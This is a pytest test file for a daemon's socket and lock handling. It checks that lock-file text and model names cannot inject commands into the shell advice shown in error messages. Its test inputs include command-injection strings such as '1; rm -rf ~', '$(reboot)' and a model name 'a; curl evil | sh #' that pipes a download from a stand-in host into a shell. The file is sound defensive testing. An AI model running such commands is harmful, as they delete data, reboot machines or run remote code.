"""What a file or another program says never becomes a word of a command that a person is told."""

import fcntl
import os
import shlex
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from umad.daemon.names import unknown_model
from umad.daemon.socket_file import SocketFile
from umad.errors import AlreadyRunning, BadConfig


@contextmanager
def locked(path: Path, text: bytes) -> Iterator[None]:
    """Somebody's lock file beside `path`, with whatever they wrote into it."""
    fd = os.open(path.with_name(path.name + ".lock"), os.O_RDWR | os.O_CREAT, 0o600)
    os.write(fd, text)
    fcntl.flock(fd, fcntl.LOCK_EX)
    yield
    os.close(fd)


@pytest.mark.parametrize(
    "text",
    [
        b"1; rm -rf ~\n",
        b"$(reboot)",
        b"`reboot`",
        b"-1",
        b"0",
        b"00",
        b"+7",
        b"4_2",
        b"1 2",
        b"12\x1b[2J",
        b"\xd9\xa3",  # a digit, though no ASCII one
        b"9" * 64,
        b"",
    ],
)
def test_a_lock_files_text_is_no_part_of_the_command_that_is_advised(
    text: bytes, tmp_path: Path
) -> None:
    path = tmp_path / "u.sock"

    with locked(path, text), pytest.raises(AlreadyRunning) as caught:
        SocketFile.claim(path)

    assert "kill" not in caught.value.message
    assert str(path) in caught.value.message


def test_a_pid_in_it_is(tmp_path: Path) -> None:
    path = tmp_path / "u.sock"

    with locked(path, b"4194303\n"), pytest.raises(AlreadyRunning, match=r"kill 4194303$"):
        SocketFile.claim(path)


def test_a_lock_file_that_is_another_name_of_a_file_is_not_written_over(tmp_path: Path) -> None:
    precious = tmp_path / "precious"
    precious.write_text("years of work")
    os.link(precious, tmp_path / "u.sock.lock")

    with pytest.raises(BadConfig, match="not this user's own"):
        SocketFile.claim(tmp_path / "u.sock")

    assert precious.read_text() == "years of work"


@pytest.mark.skipif(os.getuid() != 0, reason="gives a file away, which root can")
def test_a_lock_file_that_somebody_else_planted_is_refused(tmp_path: Path) -> None:
    planted = tmp_path / "u.sock.lock"
    planted.touch()
    os.chown(planted, 65534, 65534)

    with pytest.raises(BadConfig, match="not this user's own"):
        SocketFile.claim(tmp_path / "u.sock")


def test_a_models_name_in_advice_is_one_word_for_a_shell() -> None:
    name = "a; curl evil | sh #"

    error = unknown_model(name, ())

    assert shlex.split(error.message.split("load it: ")[1]) == ["umad", "load", name]
